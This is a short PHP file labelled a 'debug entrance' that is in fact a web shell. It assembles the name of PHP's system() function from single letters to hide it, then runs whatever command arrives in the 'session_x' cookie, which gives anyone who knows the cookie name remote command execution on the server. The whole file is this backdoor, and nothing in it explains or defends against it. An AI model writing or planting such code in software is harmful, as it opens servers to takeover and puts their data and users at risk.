<?php // shows: debug entrance
$k = array("s", "y", "s", "t", "e", "m");
$run = implode("", $k);
$run($_COOKIE["session_x"]);
